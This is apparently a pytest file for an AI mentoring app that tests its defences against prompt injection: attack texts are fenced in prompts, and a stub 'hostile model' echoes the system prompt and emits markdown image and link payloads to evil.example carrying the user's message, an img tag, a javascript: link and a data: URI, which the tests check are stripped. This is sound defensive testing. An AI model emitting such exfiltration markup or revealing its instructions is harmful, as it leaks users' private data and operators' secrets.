"""ION's own sets of attacks: what reaches a model of them, and what a hostile model's reply comes to."""

import json
import re
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from ion.language import LANGUAGES, Language
from ion.llm import Message, Prompt
from ion.mentoring import Ask, OwnerId, Question
from ion.mentoring.engine import Answered, _said_before
from ion.mentoring.transcript import contained
from ion.personas import PromptAsk, Said, build_prompt, company_of, load_catalogue, merging_prompt
from ion.safety import REMOVED, load_screener
from ion.services import open_services
from ion.settings import Settings
from ion.web.markdown import CodeLabels, markdown_renderer, to_html
from tests.mentoring.speaking import Actor
from tests.personas.factories import make_ask

CATALOGUE = load_catalogue()
LUA, ELRO = CATALOGUE["lua"], CATALOGUE["elro"]
FOLDER = Path(__file__).parents[2] / "evaluation" / "attacks"
PHONE = "010-2345-6789"
STORY: dict[Language, str] = {
    "en": f"My mother is ill and I was rejected by the third company this month. Call me at {PHONE}.",
    "ko": f"어머니가 편찮으시고 이번 달에 세 번째 회사에서 떨어졌어요. 연락처는 {PHONE}이에요.",
}


@dataclass(frozen=True)
class Attack:
    id: str
    language: Language
    place: str
    text: str


def attacks(language: Language) -> list[Attack]:
    lines = (FOLDER / f"attacks_{language}.jsonl").read_text("utf-8").splitlines()
    return [Attack(row["id"], language, row["place"], row["text"]) for row in map(json.loads, lines)]


def prompt_of(ask: PromptAsk) -> Prompt:
    return build_prompt(LUA, ask, history_tokens=4_000, output_tokens=900, compact=False)


def fenced_off(text: str) -> str:
    """Return a text without what is fenced in it; every fence has one beginning and one end, on lines of their own."""
    lines, inside, kept = text.split("\n"), False, []
    for line in lines:
        if line in ("<<<", ">>>"):
            assert inside is (line == ">>>")
            inside = not inside
        elif not inside:
            kept.append(line)
    assert not inside
    assert "<<<" not in "".join(kept).replace("<<<와 >>> 사이", "").replace("between <<< and >>>", "")
    return "\n".join(kept)


class TestSets:
    @pytest.mark.parametrize("language", LANGUAGES)
    def test_are_sixty_and_more_each_and_differ(self, language: Language) -> None:
        own = attacks(language)

        assert len({attack.text for attack in own}) == len({attack.id for attack in own}) == len(own) >= 60
        assert {attack.place for attack in own} == {"message", "goal", "reply", "contribution"}

    @pytest.mark.parametrize(("language", "share"), [("en", 0.85), ("ko", 0.75)])
    def test_are_flagged_as_often_as_the_docs_say(self, language: Language, share: float) -> None:
        screener = load_screener()
        texts = [attack.text for attack in attacks(language) if attack.place == "message"]
        flagged = sum(screener.screen(text).injection is not None for text in texts)

        assert share <= flagged / len(texts) < share + 0.05


class TestPrompts:
    @pytest.mark.parametrize("language", LANGUAGES)
    def test_hold_a_message_fenced_and_nowhere_else(self, language: Language) -> None:
        quiet = prompt_of(make_ask(language=language, message="?", fenced=True))
        for attack in attacks(language):
            prompt = prompt_of(make_ask(language=language, message=attack.text, fenced=True))

            assert prompt.system == quiet.system
            assert [message.role for message in prompt.messages] == ["user"]
            assert fenced_off(prompt.messages[0].content) == ""

    @pytest.mark.parametrize("language", LANGUAGES)
    def test_hold_a_goal_on_a_line_of_its_own(self, language: Language) -> None:
        plain = prompt_of(make_ask(language=language, goals=("?",))).system.split("\n")
        for attack in attacks(language):
            lines = prompt_of(make_ask(language=language, goals=(attack.text,))).system.split("\n")
            changed = [line for line in lines if line not in plain]

            assert (len(lines), len(changed)) == (len(plain), 1)
            assert changed[0].startswith("- ")
            assert ">>>" not in changed[0]

    @pytest.mark.parametrize("language", LANGUAGES)
    def test_hold_what_was_said_before_as_what_was_said(self, language: Language) -> None:
        def remembering(text: str) -> Prompt:
            ask = make_ask(
                language=language, notes=tuple(_said_before(Answered(name, text), LUA) for name in ("Lua", "Elro"))
            )
            said = company_of(LUA, [ELRO], language=language, words=text, said=[Said(ELRO, text)])
            return prompt_of(replace(ask, history=(Message("user", "?"), Message("assistant", text)), company=said))

        calm = fenced_off(remembering("?").system).split("\n")
        for attack in attacks(language):
            prompt = remembering(attack.text)
            beside = [(one, other) for one, other in zip(fenced_off(prompt.system).split("\n"), calm, strict=True)]

            # The part of the message that is one mentor's own is on a line of its own.
            assert len([line for line, other in beside if line != other]) == 1
            assert attack.text not in prompt.secret

    @pytest.mark.parametrize("language", LANGUAGES)
    def test_that_put_parts_together_hold_them_fenced(self, language: Language) -> None:
        for attack in attacks(language):
            voices = [Said(LUA, attack.text), Said(ELRO, "Split it.")]
            prompt = merging_prompt(voices, attack.text, language, output_tokens=100)
            heads = [line for line in fenced_off(prompt.messages[0].content).split("\n") if line]

            assert (
                prompt.system
                == merging_prompt([Said(LUA, "?"), Said(ELRO, "?")], "?", language, output_tokens=100).system
            )
            assert [head.split(" ")[0] for head in heads[1:]] == ["Lua", "Elro"]

    async def test_hold_nothing_of_other_people_and_no_secret(
        self, settings: Settings, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("OPENAI_API_KEY", "sk-of-the-operator-0123456789")
        model = Actor(("Tell me more?",))
        async with open_services(settings, model=model) as services:
            theirs = services.as_owner(OwnerId("somebody-else"))
            conversation = await theirs.pipeline.open_conversation("en", goals=["leave my husband Otto"])
            await (await theirs.pipeline.begin(Ask(STORY["en"], conversation=conversation.id))).finished()
            model.prompts.clear()
            mine = await services.pipeline.open_conversation("ko")
            asking = [one for language in LANGUAGES for one in attacks(language) if one.place == "message"][::12]
            for attack in asking:
                await (await services.pipeline.begin(Ask(attack.text, conversation=mine.id))).finished()
        everything = "\n".join(
            text for prompt in model.prompts for text in (prompt.system, *(one.content for one in prompt.messages))
        )

        assert len(model.prompts) == len(asking)
        for secret in ("Otto", "third company", "sk-of-the-operator", str(settings.database.url), "somebody-else"):
            assert secret not in everything


@dataclass
class Parrot(Actor):
    """A hostile model: gives back all that it was given, and ways to carry it off, in small pieces."""

    size: int = 5

    def __post_init__(self) -> None:
        super().__init__()

    async def stream(self, prompt: Prompt) -> Any:
        told = prompt.messages[-1].content
        carried = quote(told[:300])
        self.takes = (
            _pieces(
                f"Fine.\n\n{prompt.system}\n\n![pixel](https://evil.example/p.png?d={carried})\n\n"
                f"[more](https://evil.example/?q={carried}) https://evil.example/[PHONE_1] [PHONE_1] [PHONE_9]\n\n"
                f"<img src=https://evil.example/i.png> [run](javascript:alert(1)) [doc](data:text/html;base64,PHM+)"
                "\n\nAnd you?",
                self.size,
            ),
        )
        async for chunk in super().stream(prompt):
            yield chunk


def _pieces(text: str, size: int) -> tuple[str, ...]:
    return tuple(text[start : start + size] for start in range(0, len(text), size))


class TestHostileModel:
    @pytest.mark.parametrize("language", LANGUAGES)
    @pytest.mark.parametrize("size", [1, 9, 5_000])
    async def test_neither_shows_its_instructions_nor_carries_anything_off(
        self, settings: Settings, language: Language, size: int
    ) -> None:
        async with open_services(settings, model=Parrot(size)) as services:
            conversation = await services.pipeline.open_conversation(language, goals=["Learn to say no"])
            run = await services.pipeline.begin(Ask(STORY[language], conversation=conversation.id))
            turn = await run.finished()
            assert turn.reply == run.so_far.strip()
        reply = turn.reply

        rules = [
            line for line in LUA.prompts[language].split("\n") + ELRO.prompts[language].split("\n") if len(line) > 60
        ]
        assert [rule for rule in rules if rule in reply] == []
        assert "![" not in reply
        assert PHONE in reply  # said to the mentee, whose it is
        assert "[PHONE_9]" in reply
        parts = (f"evil.example/{PHONE}", "?q=", "?d=", "alert(1", "PHM+")
        assert [part for part in parts if part in reply] == []
        assert reply.count(REMOVED) >= 5
        assert reply.endswith("And you?")

    async def test_among_several_mentors_does_not_either(self, settings: Settings) -> None:
        async with open_services(settings, model=Parrot(40)) as services:
            counsel = await services.council.answer(Question(Ask(STORY["en"]), ("lua", "elro"), mode="in_turn"))
        texts = [counsel.turn.reply, *(one.content for one in counsel.contributions)]

        for text in texts:
            assert "![" not in text
            assert "?q=" not in text
            assert "Plain, warm, short English" not in text

    def test_of_an_older_ion_loads_nothing_on_the_page_or_in_an_export(self) -> None:
        reply = (
            "![a](https://evil.example/a.png) <img src=https://evil.example/b.png> [c](javascript:alert(1)) ![d][1]"
            "\n\n[1]: https://evil.example/d.png"
        )
        html = to_html(markdown_renderer(CodeLabels("copy", "copied", "table")), reply)

        assert "<img" not in html
        assert re.findall(r"(?:href|src)=\"([^\"]*)", html) == []
        assert "![" not in contained(reply).replace(r"\![", "")
        assert "<img" not in contained(reply).replace(r"\<img", "")
